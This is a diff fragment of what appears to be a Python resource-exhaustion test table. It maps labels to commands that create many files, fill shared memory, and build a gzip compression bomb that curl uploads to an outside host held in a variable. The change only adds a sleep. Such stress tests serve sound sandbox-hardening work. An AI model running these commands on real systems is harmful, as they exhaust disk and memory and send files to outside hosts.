@@ -45,7 +45,7 @@ DONE = {
         "    os.close(os.open(f'{i}', os.O_CREAT | os.O_WRONLY))\n"
         "    if i % 1000 == 999: os.chdir('/tmp/small')"
     ),
-    "shared memory": "head -c 1G /dev/zero >/dev/shm/fill; rm /dev/shm/fill",
+    "shared memory": "head -c 1G /dev/zero >/dev/shm/fill; sleep 3; rm /dev/shm/fill",
     "a bomb": "head -c 300M /dev/zero | gzip -1 | gzip -1 >/tmp/bomb; curl -sS -T /tmp/bomb https://$drop/in/bomb",
     "dictionaries": "head -c 90M /dev/zero | xz -9 >/tmp/zeros.xz\n"
     + PYTHON.format(
